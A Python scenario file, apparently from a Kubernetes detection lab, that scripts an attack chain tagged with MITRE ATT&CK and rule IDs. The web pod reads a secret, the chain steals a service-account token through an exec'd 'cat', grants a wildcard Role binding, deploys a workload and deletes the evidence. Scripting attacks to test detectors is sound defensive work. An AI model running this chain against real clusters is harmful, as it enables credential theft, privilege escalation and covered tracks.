"""From a web pod to the whole cluster: a leaked token, a secret, a role, a binding, a workload, and the clean-up."""

from lab.manifests import account, binding, role, workload
from lab.story import Scenario, Stage
from lab.streams import run


def _play(stage: Stage) -> None:
    web = stage.pod("shop", "web", agent="curl/8.10.1")
    review = {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": {"namespace": "shop"}}
    with stage.step("learn own rights from inside the pod", web, "discovery", ("B01", "B02")):
        stage.must(web.post("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", review))
    with stage.step("read a secret", web, "credential-access", ("F01", "F07", "F08")):
        stage.must(web.get("/api/v1/namespaces/shop/secrets/orders-db"))
    developer = stage.person("alice", address=web.address, agent="curl/8.10.1")
    operator = stage.lab.running("shop", "orders-operator")
    with stage.step("enter the operator with a stolen login", developer, "lateral-movement", ("C01", "C06", "N07")):
        run(developer, "shop", operator.name, ["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"])
    thief = stage.client(operator.identity, web.address, "curl/8.10.1")
    name = stage.word("orders-events", "orders-cache")
    rules = [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]
    with stage.step("make a role and bind it", thief, "privilege-escalation", ("E08", "E13", "E16", "E19", "N08")):
        made = role(name, rules, cluster=False)
        stage.must(stage.create(thief, made, "shop"))
        bound = binding(name, name, [account("shop", "web")], cluster=False, role_kind="Role")
        stage.must(stage.create(thief, bound, "shop"))
    with stage.step("deploy with the new right", web, "execution", ("E18", "C21", "N12")):
        stage.must(stage.create(web, workload("Deployment", name, "docker.example.net/x:1"), "shop"))
    with stage.step("clean up", thief, "defense-evasion", ("I03", "N12")):
        web.delete(f"/apis/apps/v1/namespaces/shop/deployments/{name}?propagationPolicy=Background")
        web.delete(f"/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings/{name}")
        web.delete(f"/apis/rbac.authorization.k8s.io/v1/namespaces/shop/roles/{name}")


SCENARIO = Scenario(
    "breach-chain",
    "From a web pod to everything in its namespace",
    "attack",
    "own the shop",
    ("T1528", "T1552.007", "T1609", "T1098.006", "T1610", "T1070"),
    _play,
)
